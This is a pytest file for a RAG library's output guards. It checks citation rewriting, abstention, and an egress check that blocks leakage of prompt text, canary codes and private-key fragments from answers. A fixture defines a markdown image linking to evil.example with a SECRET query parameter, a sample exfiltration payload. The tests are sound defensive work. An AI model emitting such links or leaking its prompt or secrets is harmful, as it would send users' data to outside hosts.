"""What is shown is what was checked, also where citing or JSON has changed it."""

from __future__ import annotations

import json
from typing import Any

import pytest
from pydantic import BaseModel

from ragstone.protocols import Check
from ragstone.testing import ScriptedModel
from ragstone.types import Answer, Context, Prompt
from ragstone.validation.policy import Guard, Policy
from ragstone.verdicts import PASSED, Finding, Flaw, Subject
from shouting import ABSTAINED, SHIPS, made

IMAGE = "![x](https://evil.example/?q=SECRET)"


class NoOnes(Check):
    """A check that nothing passes which holds a marker with the number 1."""

    whole, fixes, last = False, True, True

    async def check(self, subject: Subject, *, context: Context) -> Finding:
        at = subject.text.find("[1]")
        if at < 0:
            return PASSED
        fixed = subject.text.replace("[1]", "(one)")
        return Finding(passed=False, reason="it holds a one", flaws=(Flaw(at, at + 3, "one"),), fixed=fixed)


def ones(on_fail: Any) -> Guard:
    return Guard(name="ones", check=NoOnes(), policy=Policy(on_fail=on_fail))


class Steps(BaseModel):
    answer: str
    note: str = ""
    steps: list[str] = []


async def answered(said: str, *checks: Guard, **options: Any) -> tuple[Answer, list[Any]]:
    async with made(ScriptedModel([said]), *checks) as rag:
        await rag.ingest()
        stream = rag.stream(SHIPS, **options)
        pieces = [piece async for piece in stream]
    return stream.answer, pieces


def passed(answer: Answer, name: str = "egress") -> list[bool]:
    return [one.passed for one in answer.verdicts if one.check == name]


async def test_what_citing_has_changed_is_looked_at_once_more():
    answer, pieces = await answered("It ships soon [2].", ones("fix"))
    assert answer.text == "It ships soon (one)."
    assert passed(answer, "ones") == [False]
    assert answer.notices == ("The answer was changed by the check 'ones': it holds a one.",)
    assert ("".join(piece.text for piece in pieces[:-1]), pieces[-1].restart) == ("It ships soon [2].", True)
    assert pieces[-1].text == answer.text


async def test_where_it_may_not_be_shown_the_answer_abstains():
    answer, _ = await answered("It ships soon [2].", ones("refrain"))
    assert (answer.text, answer.abstained, answer.citations) == (ABSTAINED, True, ())


async def test_an_answer_that_citing_leaves_alone_is_looked_at_once():
    answer, _ = await answered(f"It ships [1].\n\n```\n{IMAGE}\n```\n")
    assert IMAGE in answer.text
    assert passed(answer) == [True]


async def test_the_texts_of_an_object_are_written_so_that_no_mark_of_theirs_counts():
    answer, note = "It ships ` now [1].", f"`{IMAGE}`"
    found, pieces = await answered(json.dumps({"answer": answer, "note": note}), output=Steps)
    assert "![" not in found.text
    assert "://" not in found.text
    assert json.loads(found.text)["note"] == found.parsed.note == note
    assert passed(found) == [False]
    assert pieces[-1].text == found.text


async def test_an_honest_object_is_written_as_it_is():
    found, _ = await answered(json.dumps({"answer": "It ships [1].", "note": "a `b` (c)"}), output=Steps)
    assert json.loads(found.text) == {"answer": "It ships [1].", "note": "a `b` (c)"}
    assert "\\u" not in found.text
    assert all(passed(found))


async def test_what_came_out_in_one_text_of_an_object_counts_in_the_next():
    async with made(ScriptedModel(['{"answer": "It ships [1]."}'])) as rag:
        await rag.ingest()
        prompt = (await rag.ask(SHIPS, output=Steps)).prompt
    told = prompt.messages[0].content.split()
    parts = [" ".join(told[at : at + 8]) for at in range(0, 40, 8)]
    found, _ = await answered(json.dumps({"answer": "It ships [1].", "steps": parts}), output=Steps)
    assert not set(parts[2:]) & set(found.parsed.steps)
    key = ["-----BEGIN RSA PRIVATE KEY-----", "MIIEpAIBAAKCAQEA7", "and more of it"]
    found, _ = await answered(json.dumps({"answer": "It ships [1].", "steps": key}), output=Steps)
    assert not set(key) & set(found.parsed.steps)


async def test_a_code_in_parts_never_comes_out_of_a_list_whole():
    def parted(prompt: Prompt) -> str:
        (code,) = (slot.text for slot in prompt.slots if slot.name == "canary")
        codes.append(code)
        parts = [code[at : at + 5] for at in range(0, len(code), 5)]
        return json.dumps({"answer": "It ships [1].", "steps": [*parts, "and this"]})

    codes: list[str] = []
    async with made(ScriptedModel(parted)) as rag:
        await rag.ingest()
        found = await rag.ask(SHIPS, output=Steps)
    assert codes[0] not in "".join(found.parsed.steps)
    assert "and this" not in found.parsed.steps


@pytest.mark.parametrize("marker", [" [9]", " [1]", " [1]."])
async def test_an_abstention_with_a_marker_is_one(marker: str):
    answer, _ = await answered(ABSTAINED.rstrip(".") + marker)
    assert (answer.text, answer.abstained, answer.citations) == (ABSTAINED, True, ())
